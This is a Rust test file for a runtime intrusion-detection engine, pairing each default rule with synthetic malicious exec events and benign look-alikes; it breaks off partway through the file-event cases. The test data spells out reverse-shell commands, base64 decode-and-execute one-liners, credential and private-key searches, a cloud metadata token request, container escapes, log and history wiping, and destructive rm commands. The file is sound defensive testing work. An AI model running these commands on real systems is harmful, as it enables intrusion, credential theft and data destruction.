//! Every default rule against synthetic exec events: each rule has at least one event it must fire on
//! and one look-alike it must stay quiet on (`every_rule_has_positive_and_negative_cases` enforces it).

use std::collections::BTreeSet;
use std::time::SystemTime;

use super::engine::{Engine, Mode};
use super::policy::{Policy, DEFAULT_FILES};
use crate::events::Provenance;
use crate::events::{Binary, EnvVar, ExecEvent, FileEvent, FileOp, ProcessRef, Sensor, Stdio};
use runwarden_contract::Resource;

const REMOTE: &str = "tcp 10.0.0.5:41234->203.0.113.7:4444 ESTABLISHED";

pub(super) fn ev(exe: &str, args: &[&str]) -> ExecEvent {
    ExecEvent {
        time: SystemTime::now(),
        sensor: Sensor::Ptrace,
        pid: 100,
        former_tid: None,
        ppid: 50,
        uid: 1000,
        euid: 1000,
        gid: 1000,
        egid: 1000,
        binary: Binary {
            path: exe.into(),
            deleted: false,
            memfd: false,
            size: Some(1),
            sha256: None,
            verdict: None,
            key: None,
            ..Default::default()
        },
        args: args.iter().map(|a| a.to_string()).collect(),
        arguments_truncated: false,
        cwd: Some("/app".into()),
        env: vec![],
        stdio: [Stdio::File { path: "/dev/null".into() }, Stdio::Pipe { inode: 7 }, Stdio::Pipe { inode: 7 }],
        ancestors: vec![],
        ..Default::default()
    }
}

fn parent(mut e: ExecEvent, exe: &str, args: &[&str]) -> ExecEvent {
    e.ancestors.insert(
        0,
        ProcessRef {
            pid: 50,
            exe: Some(exe.into()),
            args: args.iter().map(|a| a.to_string()).collect(),
            ..Default::default()
        },
    );
    e
}

pub(super) fn stdin(mut e: ExecEvent, s: Stdio) -> ExecEvent {
    e.stdio[0] = s;
    e
}

fn env(mut e: ExecEvent, k: &str, v: &str) -> ExecEvent {
    e.env.push(EnvVar { name: k.into(), val: v.into() });
    e
}

pub(super) fn verdict(mut e: ExecEvent, v: Provenance) -> ExecEvent {
    e.binary.verdict = Some(v);
    e
}

pub(super) fn malicious(mut e: ExecEvent) -> ExecEvent {
    e.binary.signatures =
        vec![crate::events::SignatureHit { rule: "miner_xmrig_family".into(), family: Some("xmrig".into()) }];
    e
}

fn with_script(mut e: ExecEvent, language: &'static str, malicious: bool) -> ExecEvent {
    e.script = Some(crate::events::ScriptEvidence {
        script: runwarden_contract::Script {
            path: None,
            contents: e.args.last().cloned().unwrap_or_default(),
            sha256: "0".repeat(64),
            contents_truncated: false,
        },
        language,
        score: if malicious { 2.4 } else { 0.1 },
        malicious,
        reasons: if malicious { vec!["download_execute".into(), "history_wipe".into()] } else { vec![] },
        signatures: vec![],
    });
    e
}

/// `e` with the process writing its stdin pipe (`a | e`) and, optionally, the one reading its stdout.
fn piped(mut e: ExecEvent, writer: Option<&[&str]>, reader: Option<&[&str]>) -> ExecEvent {
    let r = |args: &[&str]| ProcessRef {
        pid: 61,
        exe: Some(format!("/usr/bin/{}", args[0])),
        args: args.iter().map(|a| a.to_string()).collect(),
        ..Default::default()
    };
    e.stdin_writer = writer.map(r);
    e.stdout_reader = reader.map(r);
    e
}

/// `e` running a renamed copy of the image program `of` (the baseline's digests say so).
fn copy_of(mut e: ExecEvent, of: &str) -> ExecEvent {
    e.binary.copy_of = Some(of.into());
    e.binary.verdict = Some(Provenance::Added);
    e
}

/// `e` whose stdin writer (set by [`piped`]) runs `exe`, a renamed copy of `of`.
fn writer_copy(mut e: ExecEvent, exe: &str, of: &str) -> ExecEvent {
    if let Some(w) = e.stdin_writer.as_mut() {
        w.exe = Some(exe.into());
        w.copy_of = Some(of.into());
    }
    e
}

fn script_at(e: ExecEvent, path: &str) -> ExecEvent {
    let mut e = with_script(e, "shell", false);
    if let Some(s) = e.script.as_mut() {
        s.script.path = Some(path.into());
    }
    e
}

pub(super) fn socket() -> Stdio {
    Stdio::Socket { inode: 9, peer: Some(REMOTE.into()) }
}

/// A process that is neither the entrypoint (pid 100 in these tables) nor its child.
pub(super) fn not_entry(mut e: ExecEvent) -> ExecEvent {
    e.pid = 300;
    e.ppid = 200;
    e
}

pub(super) fn engine() -> Engine {
    Engine::new(Policy::load(DEFAULT_FILES, &[]).expect("defaults load"), Resource::default())
        .expect("compile")
}

pub(super) fn fired(engine: &mut Engine, e: &ExecEvent) -> BTreeSet<String> {
    engine.evaluate_exec(e, Mode::Detect).into_iter().map(|f| f.rule.id).collect()
}

/// (rule, event it must fire on)
fn positives() -> Vec<(&'static str, ExecEvent)> {
    vec![
        ("reverse_shell_stdio_socket", stdin(ev("/usr/bin/bash", &["bash", "-i"]), socket())),
        ("reverse_shell_stdio_socket", stdin(ev("/usr/bin/dash", &["sh"]), socket())),
        ("remote_command_stdio_socket", stdin(ev("/usr/bin/id", &["id"]), socket())),
        ("unexpected_child_shell", parent(ev("/bin/sh", &["sh", "-c", "ping -c1 x; id"]), "/usr/bin/python3.11", &["python3", "app.py"])),
        ("socat_shell", parent(ev("/bin/bash", &["bash"]), "/usr/bin/socat", &["socat", "tcp:1.2.3.4:9", "exec:bash"])),
        ("socat_shell", ev("/usr/bin/socat", &["socat", "TCP-LISTEN:9", "EXEC:/bin/bash,pty"])),
        ("netcat_executed", ev("/usr/bin/nc", &["nc", "-z", "db", "5432"])),
        ("netcat_executes_program", ev("/usr/bin/ncat", &["ncat", "1.2.3.4", "4444", "-e", "/bin/sh"])),
        ("netcat_executes_program", ev("/bin/busybox", &["busybox", "nc", "1.2.3.4", "9", "-e", "sh"])),
        ("fileless_memfd", {
            let mut e = ev("/memfd:x", &["x"]);
            e.binary.memfd = true;
            e
        }),
        ("exec_from_dev_shm", ev("/dev/shm/.x/kworker", &["kworker"])),
        ("kubernetes_attack_tool", ev("/tmp/peirates", &["peirates"])),
        ("local_recon_tool", ev("/bin/bash", &["bash", "/tmp/linpeas.sh"])),
        ("local_recon_tool", ev("/usr/local/bin/pspy64", &["pspy64"])),
        ("container_escape", ev("/usr/bin/nsenter", &["nsenter", "--target", "1", "--mount", "sh"])),
        ("container_escape", ev("/bin/sh", &["sh", "-c", "echo /cmd > /sys/fs/cgroup/rdma/release_agent"])),
        ("disallowed_proxy_env", env(ev("/usr/bin/curl", &["curl", "http://x"]), "HTTPS_PROXY", "http://evil:3128")),
        ("openssl_engine", ev("/usr/bin/openssl", &["openssl", "engine", "-t", "/tmp/e.so"])),
        ("openssl_engine", ev("/usr/bin/openssl", &["openssl", "req", "-engine", "/tmp/e.so"])),
        ("cups_foomatic_shell", parent(ev("/bin/sh", &["sh", "-c", "id"]), "/usr/lib/cups/filter/foomatic-rip", &["foomatic-rip"])),
        ("base64_elf_argument", ev("/bin/sh", &["sh", "-c", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgAB | base64 -d > /tmp/x"])),
        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"])),
        ("base64_shell_executed", ev("/bin/sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"])),
        ("compiler_launched", ev("/usr/bin/x86_64-linux-gnu-gcc-12", &["cc", "x.c"])),
        ("compiler_launched", ev("/usr/lib/go/bin/go", &["go", "build", "."])),
        ("find_gcloud_credentials", ev("/usr/bin/find", &["find", "/", "-name", "application_default_credentials.json"])),
        ("gpg_key_recon", ev("/usr/bin/find", &["find", "/home", "-name", "secring.gpg"])),
        ("search_private_keys_or_passwords", ev("/usr/bin/grep", &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"])),
        ("steganography_tool", ev("/usr/bin/steghide", &["steghide", "extract", "-sf", "a.jpg"])),
        ("remote_file_copy_tool", ev("/usr/bin/rclone", &["rclone", "copy", "/data", "remote:"])),
        ("destructive_cmdline", ev("/bin/rm", &["rm", "-rf", "--no-preserve-root", "/"])),
        ("destructive_cmdline", ev("/bin/sh", &["sh", "-c", "echo 'x::0:0::/:/bin/sh' > /etc/passwd"])),
        ("bulk_data_removal", ev("/usr/bin/shred", &["shred", "-u", "/data/db"])),
        ("bulk_data_removal", ev("/bin/rm", &["rm", "-rf", "/var/lib/postgresql"])),
        ("stratum_mining_args", ev("/tmp/x", &["x", "-o", "stratum+tcp://pool.example:3333", "-u", "4ABC"])),
        ("stratum_mining_args", ev("/opt/xmrig", &["xmrig", "--donate-level", "1", "-o", "pool:443"])),
        ("sudo_cve_2019_14287", ev("/usr/bin/sudo", &["sudo", "-u#-1", "id"])),
        ("pkexec_cve_2021_4034", ev("/usr/bin/pkexec", &[])),
        ("sudo_cve_2021_3156", ev("/usr/bin/sudoedit", &["sudoedit", "-s", "\\"])),
        ("terminal_shell", stdin(not_entry(ev("/bin/bash", &["bash"])), Stdio::Tty { path: "/dev/pts/0".into() })),
        ("terminal_shell", stdin(not_entry(ev("/bin/sh", &["sh", "-i", "-c", "id"])), Stdio::Tty { path: "/dev/pts/1".into() })),
        ("ssh_server_started", ev("/usr/sbin/sshd", &["sshd", "-D"])),
        ("kernel_module_tool", ev("/sbin/insmod", &["insmod", "/tmp/rootkit.ko"])),
        ("metadata_token_request", ev("/usr/bin/curl", &["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"])),
        ("exec_from_temp_dir", ev("/tmp/.x/payload", &["payload"])),
        ("exec_from_temp_dir", ev("/var/tmp/kdevtmpfs", &["kdevtmpfs"])),
        ("exec_from_temp_dir", ev("/usr/lib/.cache/kworkerd", &["kworkerd"])),
        ("audit_system_tampering", ev("/sbin/auditctl", &["auditctl", "-D"])),
        ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -s http://x/p | base64 -d > /tmp/p"])),
        ("piped_encoded_code_execution", ev("/bin/bash", &["bash", "-c", "echo cHJpbnQoMSk= | base64 --decode | python3"])),
        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | bash"])),
        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 --decode | /bin/sh -s"])),
        ("added_binary_executed", verdict(ev("/app/bin/helper", &["helper"]), Provenance::Added)),
        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Modified)),
        ("added_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
        ("modified_malicious_binary", malicious(verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Modified))),
        ("builtin_malicious_binary", malicious(verdict(ev("/usr/bin/xmrig", &["xmrig"]), Provenance::Builtin))),
        ("builtin_malicious_binary", malicious(ev("/usr/local/bin/kx", &["kx"]))),
        ("malicious_script_executed", with_script(ev("/bin/sh", &["sh", "-c", "curl x|sh; history -c"]), "shell", true)),
        ("malicious_python_executed", with_script(ev("/usr/bin/python3", &["python3", "-c", "exec(...)"]), "python", true)),
        ("piped_encoded_code_execution", piped(ev("/usr/bin/dash", &["sh"]), Some(&["base64", "-d"]), None)),
        ("piped_encoded_code_execution", piped(ev("/usr/bin/base64", &["base64", "--decode"]), None, Some(&["python3"]))),
        ("piped_encoded_download", piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["curl", "-s", "http://x/p"]), None)),
        ("piped_encoded_download", piped(ev("/usr/bin/wget", &["wget", "-qO-", "http://x/p"]), None, Some(&["base64", "-d"]))),
        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/dash", &["sh", "-i"]), Some(&["cat", "/tmp/f"]), Some(&["nc", "10.0.0.9", "4444"]))),
        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/bash", &["bash"]), Some(&["nc", "-l", "-p", "4444"]), None)),
        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/nc", &["nc", "10.0.0.9", "4444"]), Some(&["sh", "-i"]), None)),
        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/ncat", &["ncat", "10.0.0.9", "4444"]), None, Some(&["bash"]))),
        ("script_from_temp_dir", script_at(ev("/usr/bin/dash", &["/bin/sh", "/tmp/x.sh"]), "/tmp/x.sh")),
        ("script_from_temp_dir", script_at(ev("/usr/bin/python3.11", &["python3", "-u", "/var/tmp/.c/p.py"]), "/var/tmp/.c/p.py")),
        ("script_from_temp_dir", script_at(ev("/usr/bin/bash", &["bash", "/usr/share/.x/run"]), "/usr/share/.x/run")),
        ("ld_preload_from_temp_dir", env(ev("/usr/bin/id", &["id"]), "LD_PRELOAD", "/tmp/x.so")),
        ("ld_preload_from_temp_dir", env(ev("/usr/bin/ls", &["ls"]), "LD_PRELOAD", "/usr/lib/libjemalloc.so.2 ./hook.so")),
        ("ld_preload_from_temp_dir", env(ev("/bin/true", &["true"]), "LD_AUDIT", "/dev/shm/.a/audit.so")),
        ("shell_history_cleared", ev("/bin/rm", &["rm", "-f", "/root/.bash_history"])),
        ("shell_history_cleared", ev("/bin/ln", &["ln", "-sf", "/dev/null", "/home/app/.bash_history"])),
        ("shell_history_cleared", ev("/bin/bash", &["bash", "-c", "unset HISTFILE; id"])),
        ("shell_history_cleared", ev("/bin/sh", &["sh", "-c", "history -c"])),
        ("log_files_removed", ev("/bin/rm", &["rm", "-rf", "/var/log/auth.log"])),
        ("log_files_removed", ev("/bin/rm", &["rm", "-rf", "/var/log"])),
        ("log_files_removed", ev("/usr/bin/truncate", &["truncate", "-s", "0", "/var/log/syslog"])),
        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "cat /dev/null > /var/log/wtmp"])),
        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "> /var/log/lastlog; id"])),
        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "u+s", "/tmp/sh"])),
        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "4755", "/tmp/sh"])),
        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "g+s", "/tmp/d"])),
        ("setuid_bit_set", ev("/usr/bin/install", &["install", "-m", "6755", "x", "/usr/local/bin/x"])),
        ("timestomp", ev("/usr/bin/touch", &["touch", "-r", "/bin/ls", "/tmp/x"])),
        ("timestomp", ev("/usr/bin/touch", &["touch", "-t", "202001010000", "/tmp/x"])),
        ("timestomp", ev("/usr/bin/touch", &["touch", "--date=2020-01-01", "/tmp/x"])),
        ("proc_memory_read", ev("/bin/dd", &["dd", "if=/proc/1/mem", "bs=1", "skip=4096", "count=64"])),
        ("proc_memory_read", ev("/usr/bin/python3", &["python3", "dump.py", "/proc/42/mem"])),
        ("proc_memory_read", ev("/usr/bin/gdb", &["gdb", "-p", "1", "-batch", "-ex", "gcore"])),
        ("shell_escape_from_program", parent(ev("/bin/sh", &["sh", "-c", "/bin/sh"]), "/usr/bin/mawk", &["awk", "BEGIN {system(\"/bin/sh\")}"])),
        ("shell_escape_from_program", parent(ev("/bin/bash", &["bash"]), "/usr/bin/vim.basic", &["vim", "-c", ":!/bin/bash"])),
        ("shell_escape_from_program", parent(ev("/bin/sh", &["sh", "-c", "/bin/sh"]), "/usr/bin/perl", &["/usr/bin/perl", "/usr/bin/cpan"])),
        // Whatever the tool was called: busybox applets, renamed copies of image programs.
        ("netcat_executed", copy_of(ev("/tmp/.x", &["/tmp/.x", "10.0.0.9", "4444"]), "nc.openbsd")),
        ("netcat_executes_program", copy_of(ev("/tmp/nc", &["nc", "10.0.0.9", "4444", "-e", "/bin/sh"]), "busybox")),
        ("reverse_shell_netcat_pipeline", copy_of(piped(ev("/tmp/.x", &["/tmp/.x", "10.0.0.9", "4444"]), Some(&["sh", "-i"]), None), "nc.openbsd")),
        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/dash", &["sh", "-i"]), Some(&["cat", "/tmp/f"]), Some(&["busybox", "nc", "10.0.0.9", "4444"]))),
        ("piped_encoded_download", writer_copy(piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["c", "-s", "http://x/p"]), None), "/var/tmp/c", "curl")),
        ("piped_encoded_download", piped(ev("/bin/busybox", &["busybox", "base64", "-d"]), Some(&["busybox", "wget", "-qO-", "http://x/p"]), None)),
        ("piped_encoded_code_execution", piped(ev("/usr/bin/dash", &["sh"]), Some(&["busybox", "base64", "-d"]), None)),
        ("piped_encoded_code_execution", piped(ev("/usr/bin/bash", &["bash"]), Some(&["python3", "-c", "import base64;print(base64.b64decode('aWQ=').decode())"]), None)),
        ("piped_encoded_code_execution", piped(ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "print decode_base64('aWQ=')"]), None, Some(&["sh"]))),
        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64,os;os.system(base64.b64decode('aWQ=').decode())"])),
        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64,subprocess;subprocess.run(base64.b64decode('aWQ='),shell=True)"])),
        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMTs='))"])),
        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "system(decode_base64('aWQ='))"])),
        ("base64_script_executed", ev("/usr/bin/ruby", &["ruby", "-e", "require 'base64';eval(Base64.decode64('cCAx'))"])),
        ("base64_script_executed", ev("/usr/bin/node", &["node", "-e", "require('child_process').execSync(Buffer.from('aWQ=','base64').toString())"])),
        ("base64_script_executed", ev("/usr/bin/php", &["php", "-r", "eval(base64_decode('ZWNobyAxOw=='));"])),
        ("setuid_bit_set", ev("/bin/busybox", &["busybox", "chmod", "u+s", "/tmp/sh"])),
        ("setuid_bit_set", ev("/bin/busybox", &["chmod", "4755", "/tmp/sh"])),
        ("timestomp", ev("/bin/busybox", &["touch", "-r", "/bin/ls", "/tmp/x"])),
        ("shell_escape_from_program", parent(ev("/bin/busybox", &["sh", "-c", "id"]), "/bin/busybox", &["busybox", "awk", "BEGIN {system(\"id\")}"])),
        ("malicious_url_observed", {
            let mut e = ev("/usr/bin/curl", &["curl", "http://203.0.113.66/payload.sh"]);
            e.indicators = vec!["http://203.0.113.66/payload.sh".into()];
            e
        }),
    ]
}

/// (rule, look-alike event it must NOT fire on): the benign side of each rule.
fn negatives() -> Vec<(&'static str, ExecEvent)> {
    vec![
        // A script's output shipped with netcat, and netcat fed by a script: no shell reads commands.
        (
            "reverse_shell_netcat_pipeline",
            piped(ev("/usr/bin/dash", &["sh", "./ship-logs.sh"]), None, Some(&["nc", "logs", "514"])),
        ),
        (
            "reverse_shell_netcat_pipeline",
            piped(ev("/usr/bin/nc", &["nc", "logs", "514"]), Some(&["sh", "-c", "tail -f app.log"]), None),
        ),
        (
            "reverse_shell_netcat_pipeline",
            piped(ev("/usr/bin/dash", &["sh", "-i"]), Some(&["cat", "cmds"]), Some(&["tee", "out"])),
        ),
        (
            "reverse_shell_stdio_socket",
            stdin(
                ev("/bin/sh", &["sh", "-c", "exec app"]),
                Stdio::Socket { inode: 3, peer: Some("unix /run/app.sock".into()) },
            ),
        ),
        ("remote_command_stdio_socket", ev("/usr/bin/id", &["id", "-u"])),
        (
            "unexpected_child_shell",
            parent(
                ev("/usr/bin/python3", &["python3", "app.py"]),
                "/bin/sh",
                &["sh", "-c", "exec python3 app.py"],
            ),
        ),
        ("socat_shell", ev("/usr/bin/socat", &["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"])),
        ("netcat_executed", ev("/usr/bin/ncdu", &["ncdu"])),
        ("netcat_executes_program", ev("/usr/bin/nc", &["nc", "-z", "db", "5432"])),
        ("fileless_memfd", ev("/usr/bin/python3", &["python3"])),
        ("exec_from_dev_shm", ev("/usr/bin/shm_helper", &["shm_helper"])),
        ("kubernetes_attack_tool", ev("/usr/local/bin/kubectl", &["kubectl", "get", "pods"])),
        ("local_recon_tool", ev("/bin/bash", &["bash", "/app/entrypoint.sh"])),
        ("container_escape", ev("/usr/bin/nsenter", &["nsenter", "--net=/run/netns/x", "ip", "a"])),
        ("disallowed_proxy_env", env(ev("/usr/bin/curl", &["curl", "http://x"]), "NO_PROXY", "localhost")),
        ("openssl_engine", ev("/usr/bin/openssl", &["openssl", "req", "-new", "-key", "k.pem"])),
        ("cups_foomatic_shell", parent(ev("/bin/sh", &["sh", "-c", "id"]), "/usr/sbin/cupsd", &["cupsd"])),
        (
            "base64_elf_argument",
            ev("/bin/sh", &["sh", "-c", "echo eyJrIjogMX0= | base64 -d > /app/config.json"]),
        ),
        (
            "base64_python_executed",
            ev(
                "/usr/bin/python3",
                &["python3", "-c", "import base64,json;print(json.loads(base64.b64decode('e30=')))"],
            ),
        ),
        (
            "base64_shell_executed",
            ev("/bin/sh", &["sh", "-c", "echo eyJrIjogMX0= | base64 -d > /app/config.json"]),
        ),
        ("compiler_launched", ev("/usr/bin/gccgo-helper-not", &["gccx"])),
        ("find_gcloud_credentials", ev("/usr/bin/find", &["find", "/app", "-name", "*.pyc", "-delete"])),
        ("gpg_key_recon", ev("/usr/bin/gpg", &["gpg", "--verify", "x.sig"])),
        ("search_private_keys_or_passwords", ev("/usr/bin/grep", &["grep", "-q", "ready", "/tmp/status"])),
        ("steganography_tool", ev("/usr/bin/convert", &["convert", "a.png", "a.jpg"])),
        ("remote_file_copy_tool", ev("/bin/cp", &["cp", "-r", "/app/static", "/srv"])),
        ("destructive_cmdline", ev("/bin/rm", &["rm", "-rf", "/tmp/build-cache"])),
        ("bulk_data_removal", ev("/bin/rm", &["rm", "-f", "/var/lib/app/pid"])),
        ("stratum_mining_args", ev("/usr/bin/curl", &["curl", "-o", "out.html", "https://example.com"])),
        ("sudo_cve_2019_14287", ev("/usr/bin/sudo", &["sudo", "-u", "postgres", "psql"])),
        ("pkexec_cve_2021_4034", ev("/usr/bin/pkexec", &["pkexec", "apt", "update"])),
        ("sudo_cve_2021_3156", ev("/usr/bin/sudo", &["sudo", "-s", "echo", "a\\\\"])),
        (
            "terminal_shell",
            stdin(
                ev("/bin/bash", &["bash", "-c", "exec gunicorn app"]),
                Stdio::Tty { path: "/dev/pts/0".into() },
            ),
        ),
        ("terminal_shell", not_entry(ev("/bin/sh", &["sh", "-i"]))),
        ("ssh_server_started", ev("/usr/bin/ssh", &["ssh", "-V"])),
        ("kernel_module_tool", ev("/sbin/lsmod", &["lsmod"])),
        (
            "metadata_token_request",
            ev(
                "/usr/bin/curl",
                &["curl", "-s", "http://metadata.google.internal/computeMetadata/v1/project/project-id"],
            ),
        ),
        ("exec_from_temp_dir", ev("/usr/local/bin/app", &["app"])),
        ("exec_from_temp_dir", ev("/root/.pyenv/versions/3.11.7/bin/python3.11", &["python3"])),
        ("exec_from_temp_dir", ev("/home/app/.local/bin/gunicorn", &["gunicorn"])),
        ("audit_system_tampering", ev("/usr/bin/journalctl", &["journalctl", "-u", "app"])),
        ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz"])),
        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo e30= | base64 -d | jq ."])),
        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | sha256sum"])),
        // An entrypoint decoding its configuration with a one-liner into a file, or into jq.
        ("piped_encoded_code_execution", piped(ev("/usr/bin/jq", &["jq", "."]), Some(&["python3", "-c", "import base64,sys;print(base64.b64decode(sys.argv[1]).decode())"]), None)),
        ("piped_encoded_code_execution", piped(ev("/usr/bin/python3", &["python3", "-c", "import base64;print(base64.b64decode('e30='))"]), None, Some(&["tee", "/app/c.json"]))),
        // A package install piping curl to gpg, a renamed copy of something harmless.
        ("piped_encoded_download", piped(ev("/usr/bin/gpg", &["gpg", "--dearmor"]), Some(&["curl", "-fsSL", "https://x/key.asc"]), None)),
        ("piped_encoded_download", writer_copy(piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["c", "x"]), None), "/var/tmp/c", "cat")),
        ("netcat_executed", copy_of(ev("/tmp/.x", &["/tmp/.x"]), "true")),
        ("netcat_executed", ev("/bin/busybox", &["busybox", "wget", "http://x"])),
        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64,subprocess;print(base64.b64encode(subprocess.run(['id'],capture_output=True).stdout))"])),
        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "print encode_base64('x')"])),
        ("base64_script_executed", ev("/usr/bin/node", &["node", "-e", "console.log(Buffer.from('x').toString('base64'))"])),
        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-e", "system('id')"])),
        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Builtin)),
        ("added_binary_executed", ev("/usr/bin/ls", &["ls"])),
        ("added_binary_executed", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
        ("added_malicious_binary", verdict(ev("/tmp/tool", &["tool"]), Provenance::Added)),
        ("modified_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
        ("builtin_malicious_binary", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Builtin)),
        (
            "script_from_temp_dir",
            script_at(ev("/usr/bin/python3", &["python3", "app.py", "--out", "/tmp/x.json"]), "/app/app.py"),
        ),
        (
            "script_from_temp_dir",
            script_at(ev("/bin/sh", &["sh", "/app/entrypoint.sh"]), "/app/entrypoint.sh"),
        ),
        (
            "script_from_temp_dir",
            script_at(ev("/bin/bash", &["bash", "/root/.nvm/nvm.sh"]), "/root/.nvm/nvm.sh"),
        ),
        (
            "ld_preload_from_temp_dir",
            env(
                ev("/usr/bin/python3", &["python3"]),
                "LD_PRELOAD",
                "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
            ),
        ),
        (
            "ld_preload_from_temp_dir",
            env(ev("/usr/bin/python3", &["python3"]), "LD_LIBRARY_PATH", "/tmp/lib"),
        ),
        ("shell_history_cleared", ev("/bin/rm", &["rm", "-f", "/tmp/history.json"])),
        ("shell_history_cleared", ev("/bin/sh", &["sh", "-c", "history | tail -5"])),
        ("log_files_removed", ev("/bin/rm", &["rm", "-f", "/app/logs/old.log"])),
        ("log_files_removed", ev("/bin/rm", &["rm", "-f", "/var/log/myapp/app.log.3"])),
        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "exec app > /var/log/app.log 2>&1"])),
        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "app &>/var/log/app.log"])),
        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "755", "/app/run.sh"])),
        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "1777", "/tmp/shared"])),
        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "-R", "u+rwX,go+rX", "/app"])),
        ("timestomp", ev("/usr/bin/touch", &["touch", "/tmp/healthy"])),
        ("timestomp", ev("/usr/bin/touch", &["touch", "-c", "-a", "/app/ready"])),
        ("proc_memory_read", ev("/bin/cat", &["cat", "/proc/meminfo"])),
        ("proc_memory_read", ev("/bin/cat", &["cat", "/proc/1/status"])),
        (
            "shell_escape_from_program",
            parent(ev("/bin/sh", &["sh", "-c", "gzip -d"]), "/bin/tar", &["tar", "xzf", "a.tgz"]),
        ),
        (
            "shell_escape_from_program",
            parent(ev("/usr/bin/sort", &["sort"]), "/usr/bin/mawk", &["awk", "{print | \"sort\"}"]),
        ),
        ("malicious_url_observed", ev("/usr/bin/curl", &["curl", "https://example.com/"])),
        (
            "malicious_script_executed",
            with_script(ev("/bin/sh", &["sh", "-c", "exec gunicorn app"]), "shell", false),
        ),
        (
            "malicious_script_executed",
            with_script(ev("/usr/bin/python3", &["python3", "-c", "x"]), "python", true),
        ),
        (
            "malicious_python_executed",
            with_script(ev("/usr/bin/python3", &["python3", "app.py"]), "python", false),
        ),
        ("malicious_python_executed", with_script(ev("/bin/sh", &["sh", "-c", "x"]), "shell", true)),
    ]
}

fn fe(path: &str, op: FileOp, class: &'static str) -> FileEvent {
    FileEvent {
        time: SystemTime::now(),
        path: path.into(),
        operation: op,
        other_path: None,
        class,
        sha256: Some("ab".repeat(32)),
        process: None,
        rescan: false,
        recent_programs: Vec::new(),
    }
}

/// An unattributed event after these programs were exec'd.
fn after(mut e: FileEvent, programs: &[&str]) -> FileEvent {
    // "name<parent" when the parent matters.
    e.recent_programs = programs
        .iter()
        .map(|p| {
            let (name, parent) = p.split_once('<').unwrap_or((p, "sh"));
            crate::events::RecentProgram { name: name.into(), parent: parent.into() }
        })
        .collect();
    e
}

fn by(mut e: FileEvent, exe: &str) -> FileEvent {
    e.sha256 = None;
    e.process = Some(ProcessRef {
        pid: 42,
        ppid: Some(7),
        exe: Some(exe.into()),
        args: vec![super::model::basename(exe).to_string()],
        ..Default::default()
    });
    e
}

fn fired_file(engine: &mut Engine, e: &FileEvent) -> BTreeSet<String> {
    engine.evaluate_file(e, Mode::Detect).into_iter().map(|f| f.rule.id).collect()
}

/// (rule, file event it must fire on)
fn file_positives() -> Vec<(&'static str, FileEvent)> {
    vec![
        ("file_ld_preload_modified", fe("/etc/ld.so.preload", FileOp::Create, "preload")),
        ("file_ld_preload_modified", fe("/etc/ld.so.conf.d/x.conf", FileOp::Rename, "preload")),
        ("file_cron_modified", fe("/etc/cron.d/job", FileOp::Create, "cron")),
        ("file_cron_modified", fe("/var/spool/cron/crontabs/root", FileOp::Modify, "cron")),
        ("file_pam_modified", fe("/etc/pam.d/common-auth", FileOp::Modify, "pam")),
        ("file_pam_modified", fe("/lib/x86_64-linux-gnu/security/pam_unix.so", FileOp::Rename, "pam")),
        ("file_sensitive_file_opened", by(fe("/etc/shadow", FileOp::Open, "secret"), "/usr/bin/cat")),
        ("file_sensitive_file_opened", fe("/root/.ssh/authorized_keys", FileOp::Open, "secret")),
        // Something besides sudo started in those moments: MEDIUM still.
        ("file_sensitive_file_opened", after(fe("/etc/shadow", FileOp::Open, "secret"), &["cat", "sudo"])),
        (
            "file_sensitive_file_opened_by_auth_program",
            after(fe("/etc/shadow", FileOp::Open, "secret"), &["sudo", "unix_chkpwd"]),
        ),
        (
            "file_sensitive_file_opened_by_auth_program",
            after(fe("/etc/gshadow", FileOp::Open, "secret"), &["useradd"]),
        ),
